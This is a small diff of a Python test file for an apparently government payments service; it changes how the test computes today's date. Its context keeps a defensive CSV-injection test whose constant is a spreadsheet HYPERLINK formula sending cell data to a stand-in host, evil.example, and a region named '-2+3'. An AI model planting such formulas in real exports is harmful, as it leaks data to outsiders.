@@ -21,7 +21,7 @@ from server.models import StaffRole
 from server.services import staff
 from server.services.audit import Actor
 from server.services.errors import DomainError
-from tests.conftest import beneficiary_body, check_character
+from tests.conftest import beneficiary_body, check_character, office_today
 from tests.support.jobs import payment_run
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"点击")'
@@ -102,7 +102,7 @@ def test_the_coverage_export_neutralises_formula_cells(api, world):
     admin = api.as_("admin")
     created = admin.post("/api/v1/regions", json={"code": world["township_a"] + "002", "name": "-2+3"})
     assert created.status_code == 201, created.text
-    today = datetime.now(UTC).date().isoformat()
+    today = office_today().isoformat()
     report = admin.get(
         "/api/v1/reports/coverage",
         params={"region": world["township_a"], "from": "2026-01-01", "to": today, "format": "csv"},
